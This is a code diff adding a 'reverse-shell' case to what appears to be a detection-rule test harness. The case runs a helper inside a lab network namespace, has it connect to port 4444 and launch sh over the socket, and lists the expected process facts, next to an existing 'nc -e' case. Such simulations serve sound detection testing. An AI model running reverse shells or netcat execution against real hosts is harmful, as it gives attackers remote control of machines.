@@ -117,4 +117,32 @@ export const NETWORK_ACTIONS: Action[] = [
       return { facts: { "proc.name": "nc", "proc.pid": r.pid }, evidence: evidenceOf(r, "nc -e") };
     },
   },
+  {
+    name: "reverse-shell",
+    rule: "Shell with network socket as standard input",
+    technique: "T1059.004",
+    summary: "connects to 203.0.113.10:4444 and runs sh with the socket as stdin/stdout (lab)",
+    kind: "host",
+    needs: ["root", "gcc", "netns"],
+    expect: ["proc.name", "proc.pid", "proc.stdin.type"],
+    async run(ctx) {
+      const lab = await createNetLab(ctx.ws, await ctx.helper(), { ...LAB, ports: [4444] });
+      const r = await runCommand("ip", [
+        "netns",
+        "exec",
+        lab.clientNs,
+        await ctx.helper(),
+        "reverse-shell",
+        lab.serverIp,
+        "4444",
+      ], { timeoutMs: 15_000 });
+      requireCall(r, "dup2", true);
+      // The helper becomes the shell (same pid); the shell exits at once.
+      expectExit(r, "reverse shell");
+      return {
+        facts: { "proc.name": "sh", "proc.pid": r.pid, "proc.stdin.type": "ipv4" },
+        evidence: evidenceOf(r, "saker-sim reverse-shell"),
+      };
+    },
+  },
 ];
